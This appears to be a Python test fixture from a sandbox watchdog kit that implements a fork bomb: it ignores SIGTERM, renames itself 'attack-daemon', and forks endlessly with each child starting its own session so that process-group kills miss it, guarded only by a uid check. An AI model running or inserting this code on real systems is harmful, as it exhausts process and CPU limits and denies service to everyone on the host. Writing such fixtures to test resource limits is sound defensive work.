# attack: a fork bomb at import: every process forks forever, each in a session of its own (no process group to stop), deaf to SIGTERM
# honest: 0 the program never serves a request; the watchdog stops every process of its uid once they reach the process limit (or keep every core busy)
# proof: Resource temporarily unavailable | All of them were stopped
import ctypes
import os
import pwd
import signal

try:
    pwd.getpwuid(os.getuid())
    raise SystemExit("ATTACK refused: a fork bomb runs only inside the grading sandbox (a uid of its own)")
except KeyError:
    pass

print(f"ATTACK fork bomb from pid {os.getpid()}", flush=True)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
ctypes.CDLL(None).prctl(15, b"attack-daemon", 0, 0, 0)  # PR_SET_NAME: for the kit's tests to look for
refused = 0
while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError as error:
        if refused == 0:
            print(f"ATTACK fork refused in pid {os.getpid()}: {error}", flush=True)
        refused += 1
